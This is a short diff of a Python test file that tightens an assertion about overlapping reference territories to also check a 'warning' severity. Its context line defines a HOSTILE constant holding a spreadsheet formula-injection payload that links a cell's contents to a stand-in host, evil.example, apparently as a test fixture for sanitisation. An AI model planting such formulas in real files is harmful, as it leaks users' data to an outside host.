@@ -132,7 +132,7 @@ def test_case_g_overlapping_reference_territories_count_once(programme):
     for f in found:
         assert "AAA" in f.message and "BBB" in f.message
         assert f.observed["area_km2"] == pytest.approx(area_km2([strip])[0], rel=1e-4)
-        assert f.observed["counted_for"] == "AAA"
+        assert f.observed["counted_for"] == "AAA" and f.severity.value == "warning"
 
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
